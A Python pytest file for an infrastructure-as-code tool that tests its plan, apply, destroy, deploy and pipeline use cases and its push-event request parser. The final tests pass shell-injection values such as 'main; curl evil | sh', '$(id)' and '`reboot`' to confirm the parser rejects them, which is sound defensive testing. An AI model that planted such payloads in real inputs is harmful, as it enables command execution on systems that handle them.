"""Tests for the use cases and the push request DTO."""

from unittest.mock import AsyncMock

import pytest

from converge.application.dtos.run_dtos import PushEventRequest
from converge.application.use_cases.apply_infrastructure import ApplyInfrastructure
from converge.application.use_cases.deploy_resource import DeployResource
from converge.application.use_cases.destroy_infrastructure import DestroyInfrastructure
from converge.application.use_cases.plan_infrastructure import PlanInfrastructure
from converge.application.use_cases.run_pipeline import RunPipeline
from converge.application.use_cases.show_outputs import ShowOutputs
from converge.domain.entities.plan import ChangeAction
from converge.domain.errors import UnsatisfiedDependencyError, ValidationError


@pytest.fixture
def service(declare):
    return declare(
        {
            "variables": {
                "canary": {"type": "bool", "default": False},
                "token": {"default": "s3cret", "sensitive": True},
            },
            "resource_types": {"cloud_run_service": {"computed": ["id", "url"]}},
            "resources": [
                {"id": "db", "type": "database", "attributes": {"tier": "small"}},
                {
                    "id": "svc",
                    "type": "cloud_run_service",
                    "attributes": {"image": "app:v1", "db": "${db.id}"},
                    "ignore_changes": ["image"],
                },
                {"id": "canary", "type": "thing", "condition": "var.canary"},
            ],
            "outputs": {
                "url": {"value": "${svc.url}"},
                "token": {"value": "${var.token}", "sensitive": True},
                "canary": {"value": "${canary.id}"},
            },
        }
    )


class TestPlanInfrastructure:
    @pytest.mark.asyncio
    async def test_plan_is_read_only(self, state_store, provider, chain):
        plan = await PlanInfrastructure(state_store).execute(chain)

        assert [c.action for c in plan.changes] == [ChangeAction.CREATE] * 3
        assert state_store.load().serial == 0
        assert provider.calls == []


class TestApplyAndDestroy:
    @pytest.mark.asyncio
    async def test_apply_then_destroy(self, executor, provider, service):
        applied = await ApplyInfrastructure(executor).execute(service)
        assert applied.created == ["db", "svc"]

        destroyed = await DestroyInfrastructure(executor).execute()
        assert destroyed.deleted == ["svc", "db"]
        assert provider.objects() == {}

    @pytest.mark.asyncio
    async def test_destroy_passes_type_schemas(self, service):
        executor = AsyncMock()

        await DestroyInfrastructure(executor).execute(["db"], service)

        executor.destroy.assert_awaited_once_with(["db"], service.resource_types)

    @pytest.mark.asyncio
    async def test_validation_errors_before_any_call(self, executor, provider, service):
        with pytest.raises(ValidationError):
            await ApplyInfrastructure(executor).execute(service, {"nope": "1"})
        assert provider.calls == []


class TestShowOutputs:
    @pytest.mark.asyncio
    async def test_outputs_from_state(self, executor, state_store, service):
        await ApplyInfrastructure(executor).execute(service)

        outputs = {o.name: o for o in await ShowOutputs(state_store).execute(service)}

        assert outputs["url"].value.startswith("https://svc-")
        assert outputs["token"].display() == "(sensitive)"
        assert outputs["token"].value == "s3cret"
        assert not outputs["canary"].available

    @pytest.mark.asyncio
    async def test_outputs_before_apply_unavailable(self, state_store, service):
        outputs = await ShowOutputs(state_store).execute(service)
        assert not next(o for o in outputs if o.name == "url").available


class TestDeployResource:
    @pytest.mark.asyncio
    async def test_only_target_node_changes(self, executor, provider, service):
        await ApplyInfrastructure(executor).execute(service)
        before = provider.mutations

        remote = await DeployResource(executor, service).deploy("svc", {"image": "app:v2"})

        assert remote["image"] == "app:v2"
        assert provider.mutations == before + 1
        assert provider.calls[-1] == ("update", "cloud_run_service", "svc")

    @pytest.mark.asyncio
    async def test_ignored_key_survives_full_apply(self, executor, provider, service):
        await ApplyInfrastructure(executor).execute(service)
        await DeployResource(executor, service).deploy("svc", {"image": "app:v2"})

        result = await ApplyInfrastructure(executor).execute(service)

        assert result.unchanged == ["db", "svc"]
        assert provider.objects()["svc"]["image"] == "app:v2"

    @pytest.mark.asyncio
    async def test_dependencies_must_exist(self, executor, service):
        with pytest.raises(UnsatisfiedDependencyError):
            await DeployResource(executor, service).deploy("svc", {"image": "app:v2"})

    @pytest.mark.asyncio
    async def test_excluded_node_rejected(self, executor, service):
        with pytest.raises(ValidationError, match="excluded"):
            await DeployResource(executor, service).deploy("canary", {"x": "1"})

    @pytest.mark.asyncio
    async def test_unrendered_attributes_rejected(self, executor, service):
        with pytest.raises(ValidationError, match="fully rendered"):
            await DeployResource(executor, service).deploy("svc", {"image": "${db.id}"})


class TestRunPipeline:
    @pytest.mark.asyncio
    async def test_no_steps(self, chain):
        executor = AsyncMock()
        with pytest.raises(ValidationError, match="no pipeline steps"):
            await RunPipeline(executor).execute(chain, PushEventRequest(revision="abc1234"))
        executor.run.assert_not_awaited()

    @pytest.mark.asyncio
    async def test_hands_graph_and_trigger_to_executor(self, declare):
        declarations = declare(
            {"pipeline": {"steps": [{"id": "build", "action": {"kind": "command", "command": "make"}}]}}
        )
        executor = AsyncMock()

        await RunPipeline(executor).execute(
            declarations, PushEventRequest(revision="abc1234", branch="main")
        )

        graph, trigger = executor.run.await_args.args
        assert list(graph.steps) == ["build"]
        assert trigger.revision == "abc1234"
        assert trigger.branch == "main"


class TestPushEventRequest:
    def test_flat_payload(self):
        request = PushEventRequest.from_payload(
            {"revision": "abc1234", "branch": "main", "repository": "org/app"}
        )
        assert request == PushEventRequest("abc1234", "main", "org/app")

    def test_git_host_payload(self):
        request = PushEventRequest.from_payload(
            {
                "ref": "refs/heads/release",
                "after": "0123456789abcdef",
                "repository": {"full_name": "org/app", "name": "app"},
            }
        )
        assert request.branch == "release"
        assert request.repository == "org/app"
        assert request.to_trigger().short_revision == "0123456"

    @pytest.mark.parametrize("payload", [{}, {"revision": "has space"}, {"after": "x;rm"}])
    def test_rejects_bad_revision(self, payload):
        with pytest.raises(ValueError):
            PushEventRequest.from_payload(payload)

    @pytest.mark.parametrize(
        "payload",
        [
            {"revision": "abc1234", "branch": "main; curl evil | sh"},
            {"revision": "abc1234", "branch": "main\n"},
            {"revision": "abc1234\n"},
            {"after": "abc1234", "repository": {"full_name": "x; touch pwned #"}},
            {"after": "abc1234", "repository": "$(id)"},
            {"after": "abc1234", "ref": "refs/heads/`reboot`"},
        ],
    )
    def test_rejects_shell_metacharacters(self, payload):
        with pytest.raises(ValueError):
            PushEventRequest.from_payload(payload)
